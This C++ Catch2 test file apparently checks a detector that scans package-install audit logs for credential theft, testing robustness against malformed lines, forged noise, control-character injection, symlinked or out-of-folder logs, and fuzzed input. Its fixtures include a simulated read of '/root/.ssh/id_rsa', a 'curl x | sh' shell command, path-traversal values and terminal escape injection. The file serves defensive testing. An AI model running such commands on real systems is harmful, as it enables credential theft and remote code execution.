#include <sys/stat.h>

#include <catch2/catch.hpp>
#include <random>

#include "tests/analysis/scene.hpp"

using namespace scene;

namespace {
const std::string theft = audit("open", "('/root/.ssh/id_rsa', 'r', 0)");
}

TEST_CASE("Lines that are no events are counted and hide nothing") {
  const std::string junk[] = {"\n",
                              "{}\n",
                              "[1,2]\n",
                              "\xFF\xFE\n",
                              "{\"event\":1,\"args\":2}\n",
                              "{\"event\":\"open\"\n",
                              "null\n",
                              std::string(100'000, '[') + "\n",
                              std::string(100'000, '{') + "\n",
                              std::string(3'000'000, 'x') + "\n",
                              std::string("\0\0\0\n", 4),
                              "{\"event\":\"open\",\"args\":null}\n"};
  for (const auto& line : junk) {
    INFO(line.substr(0, 40));
    const auto r = judge("install", line + theft + line + theft + line);
    CHECK(find(r, "credential_read") != nullptr);
    if (line != "\n") CHECK(find(r, "audit_malformed") != nullptr);
  }
}

TEST_CASE("A last line without its line break is read") {
  auto cut = theft;
  cut.pop_back();
  CHECK(find(judge("install", cut), "credential_read") != nullptr);
  CHECK(find(judge("install", std::string(70'000, 'x') + "\n" + cut), "credential_read") != nullptr);
}

TEST_CASE("A line that is just as long as the buffer is read or counted, and the next one is read") {
  for (const std::size_t length : {65'534U, 65'535U, 65'536U, 65'537U, 131'071U, 131'072U}) {
    const auto r = judge("install", std::string(length, ' ') + "\n" + theft);
    CHECK(find(r, "credential_read") != nullptr);
  }
}

TEST_CASE("Forged events can't lower a verdict") {
  const auto alone = judge("install", theft);
  std::string noise;
  for (int i = 0; i < 20'000; ++i)
    noise += audit("open", "('/work/site/f" + std::to_string(i) + "', 'w', 0)", "x.py", i);
  const auto drowned = judge("install", noise + audit("lazaret.start", "()") + theft + audit("end", "()") + noise);
  CHECK(drowned.score >= alone.score);
  CHECK(drowned.verdict == alone.verdict);
  CHECK(drowned.highlights.files_written.size() == 500);
}

TEST_CASE("An event's name and a count of the skipped can be anything") {
  std::string lines;
  for (int i = 0; i < 10'000; ++i) lines += audit("e" + std::to_string(i), "()");
  lines += audit("lazaret.skipped", "{'x': 99999999999999999, 'y': -5, 3: 4, 'z'}");
  const auto r = judge("install", lines);
  CHECK(r.highlights.top_events.size() == 25);
  CHECK(r.findings.empty());
}

TEST_CASE("Control characters of a package don't reach the evidence") {
  const auto r = judge("install", audit("open", "('/root/.ssh/a\\x1b[2J\\nfake: line', 'r', 0)"));
  const auto& line = find(r, "credential_read")->evidence.at(0);
  CHECK(std::none_of(line.begin(), line.end(), [](unsigned char c) { return c < 0x20; }));
  CHECK_THAT(line, Catch::Contains("\\x1b[2J\\x0afake"));
}

TEST_CASE("A log that is no regular file or lies outside the run's folder is not read") {
  const folder place;
  place.write("seen.jsonl", end_line);
  place.write("real.jsonl", theft);
  std::filesystem::create_symlink("real.jsonl", place.path() / "link.jsonl");
  REQUIRE(::mkfifo((place.path() / "fifo.jsonl").c_str(), 0600) == 0);
  auto r = watched_run("install");
  for (const auto* name : {"link.jsonl", "../real.jsonl", "/etc/passwd", "fifo.jsonl"}) {
    r.execution->phases[0].audit_file = name;
    CHECK(find(analysis::analyse(r, place.path()), "credential_read") == nullptr);
  }
}

TEST_CASE("No mutation of real lines brings the analysis down") {
  const std::string seed =
      theft + audit("socket.connect", "(<socket.socket fd=3, laddr=('0.0.0.0', 0)>, ('1.2.3.4', 443))") +
      audit("subprocess.Popen", "('sh', ['sh', '-c', 'curl x | sh'], None, {'A': 'b'})") +
      audit("compile", "(b'\\xff\\u20ac', '<string>')") +
      R"({"t":0.1,"pid":4,"event":"exec","path":"/bin/sh","argv":["sh","-c"],"python":false})" + "\n";
  std::mt19937 dice{20260101};
  const folder place;
  const auto r = watched_run("install");
  for (int round = 0; round < 1500; ++round) {
    auto text = seed;
    for (int i = 0; i < 1 + round % 12; ++i) {
      const auto at = dice() % text.size();
      switch (dice() % 4) {
        case 0:
          text[at] = static_cast<char>(dice());
          break;
        case 1:
          text.erase(at, dice() % 40);
          break;
        case 2:
          text.insert(at, text.substr(dice() % text.size(), dice() % 60));
          break;
        default:
          text.insert(at, 1, "\"'\\({[<>]}),\n"[dice() % 13]);
          break;
      }
      if (text.empty()) text = seed;
    }
    place.write("audit.jsonl", text), place.write("seen.jsonl", text);
    const auto v = analysis::analyse(r, place.path());
    REQUIRE((v.score >= 0 && v.score <= 100));
    for (const auto& f : v.findings) REQUIRE((!f.evidence.empty() && f.evidence.size() <= 10));
  }
}
